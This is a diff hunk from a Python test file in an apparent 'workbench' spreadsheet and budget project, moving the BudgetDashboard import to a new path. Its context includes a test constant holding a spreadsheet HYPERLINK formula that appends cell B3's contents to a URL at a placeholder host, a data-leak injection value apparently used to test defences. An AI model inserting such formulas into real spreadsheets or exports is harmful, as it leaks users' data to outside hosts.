@@ -18,7 +18,7 @@ from tests.factories import user_model
 from workbench.cli import main
 from workbench.config import PROJECT_ROOT
 from workbench.documents import spreadsheet
-from workbench.ui.budget_dashboard import BudgetDashboard
+from workbench.ui.budget.dashboard import BudgetDashboard
 
 FORMULA = '=HYPERLINK("http://x"&B3,"click")'
 NOV25 = dt.date(2026, 11, 25)  # in fiscal year 2570
